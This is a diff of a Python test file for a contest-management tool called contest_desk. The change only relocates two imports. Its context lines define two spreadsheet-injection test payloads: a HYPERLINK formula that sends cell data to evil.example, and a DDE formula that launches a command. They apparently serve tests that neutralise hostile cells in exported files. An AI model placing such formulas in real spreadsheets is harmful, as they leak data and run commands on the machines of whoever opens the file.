@@ -23,6 +23,7 @@ from openpyxl import Workbook
 from contest_desk.cli import main, standings_csv
 from contest_desk.domain.contest import ContestKind
 from contest_desk.domain.labor import Direction, Indicator, IndicatorRule
+from contest_desk.domain.records.labor import PeriodKind
 from contest_desk.reports.audit_excel import write_audit_excel
 from contest_desk.reports.cells import inert, restored
 from contest_desk.reports.files import save_workbook
@@ -33,8 +34,7 @@ from contest_desk.reports.result_notice import labor_notice, standings_notice, w
 from contest_desk.reports.roster_excel import read_roster, write_roster_template
 from contest_desk.reports.text_table import csv_text
 from contest_desk.services.hub import Services
-from contest_desk.services.labor_records import PeriodKind
-from contest_desk.services.roster_import import RosterImportService
+from contest_desk.services.people.roster_import import RosterImportService
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
 DDE = "=cmd|' /C calc'!A0"
